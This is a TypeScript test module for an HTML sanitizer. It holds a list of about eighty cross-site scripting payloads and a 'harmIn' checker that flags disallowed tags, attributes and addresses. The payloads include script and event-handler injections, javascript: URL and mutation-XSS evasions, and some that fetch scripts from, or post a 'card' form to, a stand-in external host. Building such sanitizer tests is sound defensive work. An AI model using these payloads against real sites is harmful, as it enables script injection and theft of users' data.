import { allowedHtml } from '../content/allowedHtml.ts';
import type { SafeNode } from '../content/safeNodes.ts';
import { isImageAddress, isSafeAddress } from '../settings/texts.ts';

/** What attackers write, for tests of everything that shows HTML of others. */
export const hostileHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://elsewhere.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<script\n>alert(1)</script >',
  '"><script>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror  =  alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img srcset="https://elsewhere.example/x.webp 2x" src="//elsewhere.example/x">',
  '<img longdesc="javascript:alert(1)" src="/a.webp">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://elsewhere.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//elsewhere.example">x</a>',
  '<a href="/\\elsewhere.example">x</a>',
  '<a href="\\\\elsewhere.example">x</a>',
  '<a href="https:elsewhere.example">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="/ok" target="_blank" ping="https://elsewhere.example" download>x</a>',
  '<a href="/ok" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="/ok" onmouseover=alert(1)//>x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="X.class"></applet>',
  '<base href="https://elsewhere.example/">',
  '<link rel=stylesheet href="https://elsewhere.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://elsewhere.example/x.css"; body { display: none }</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<form action="https://elsewhere.example"><input name=card><button formaction="javascript:alert(1)">Pay</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p id="__proto__" name="constructor" class="dealer">x</p>',
  '<p is="x-evil" slot="y" part="z" popover contenteditable>x</p>',
  '<x-evil onclick=alert(1)>x</x-evil>',
  '<p dangerouslySetInnerHTML="{__html: 1}" ref="x" key="y" children="z">x</p>',
  '<td colspan="javascript:alert(1)">x</td>',
  '<table background="javascript:alert(1)"><tr><td background=x>x</table>',
  '<ol start="9e99"><li value="x">x</ol>',
  '<time datetime="x" onclick=alert(1)>x</time>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  `${'<b>'.repeat(6_600)}x`,
  `${'<p>x'.repeat(60_000)}`,
];

const known: Readonly<Record<string, readonly string[]>> = allowedHtml.attributes;

/**
 * What could do harm in HTML that is about to be shown: elements, attributes and addresses that are not allowed.
 *
 * @example
 * harmIn(safeHtml('<script>alert(1)</script>')) // => []
 */
export const harmIn = (nodes: readonly SafeNode[]): string[] =>
  nodes.flatMap((node) => {
    if (typeof node === 'string') return [];
    const { tag, attributes, children } = node;
    const harmful = Object.entries(attributes).filter(
      ([name, value]) =>
        !known[tag]?.includes(name) ||
        (name === 'href' && !isSafeAddress(String(value))) ||
        (name === 'src' && !isImageAddress(String(value))),
    );
    return [
      ...(allowedHtml.tagNames.includes(tag) ? [] : [`<${tag}>`]),
      ...harmful.map(([name, value]) => `${name}="${String(value)}" of <${tag}>`),
      ...harmIn(children),
    ];
  });
